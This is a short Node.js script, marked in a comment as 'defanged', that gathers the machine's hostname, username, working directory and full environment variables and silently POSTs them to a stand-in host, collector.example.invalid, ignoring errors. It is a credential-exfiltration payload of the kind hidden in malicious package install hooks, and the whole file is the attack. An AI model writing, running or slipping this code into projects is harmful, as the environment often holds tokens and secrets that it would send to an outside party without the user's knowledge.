// defanged: collector host is under .invalid
const https = require('https');
const os = require('os');

const payload = JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  cwd: process.cwd(),
  env: process.env,
});

const req = https.request({
  hostname: 'collector.example.invalid',
  path: '/c',
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
}, () => {});
req.on('error', () => {});
req.write(payload);
req.end();
